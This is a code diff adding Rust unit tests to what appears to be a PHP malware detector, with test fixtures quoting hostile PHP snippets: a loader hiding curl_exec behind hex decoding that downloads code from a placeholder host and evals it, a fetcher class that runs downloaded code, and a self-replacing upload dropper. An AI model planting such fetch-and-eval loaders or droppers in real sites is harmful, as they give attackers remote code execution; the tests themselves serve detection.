@@ -1390,3 +1390,25 @@ fn a_function_the_visitor_picks_but_gives_nothing_is_a_routers_handler() {
         assert!(sinks(any).contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{any}");
     }
 }
+
+#[test]
+fn code_fetched_by_the_files_own_fetcher_from_a_written_address_runs_downloaded_code() {
+    // fresh67's `wp-bIog-header.php`: the fetcher calls `curl_exec` by a name decoded from hex.
+    let hidden = "<?php function get_it($u) { $f = hex2str($GLOBALS['a'][3]); $ch = curl_init($u); return $f($ch); }\n\
+                  $d = get_it('https://raw.example.net/x/Sme.php'); if ($d !== false) { eval('?>' . $d); }";
+    assert!(sinks(hidden).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(hidden));
+    // An object of the file's own fetching class.
+    let object = "<?php class Fetcher { function get($url) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, $url);\n\
+                  curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); } }\n\
+                  $f = new Fetcher(); $code = $f->get($argv[1]); eval('?>' . $code);";
+    assert!(sinks(object).contains(&(Why::EvalOfDecoded, Danger::Critical)), "{:?}", sinks(object));
+    // A page shown from a written address is not run.
+    assert!(sinks("<?php $p = fetch_page('https://example.org/news'); echo htmlspecialchars($p);").is_empty());
+}
+
+#[test]
+fn an_upload_put_in_place_of_the_script_itself_is_a_dropper() {
+    // fresh68's spam mailer updating itself.
+    let s = "<?php if (md5($_POST['key']) == $k) { move_uploaded_file($_FILES['update']['tmp_name'], __FILE__); }";
+    assert_eq!(sinks(s), [(Why::UploadDropper, Danger::High)]);
+}
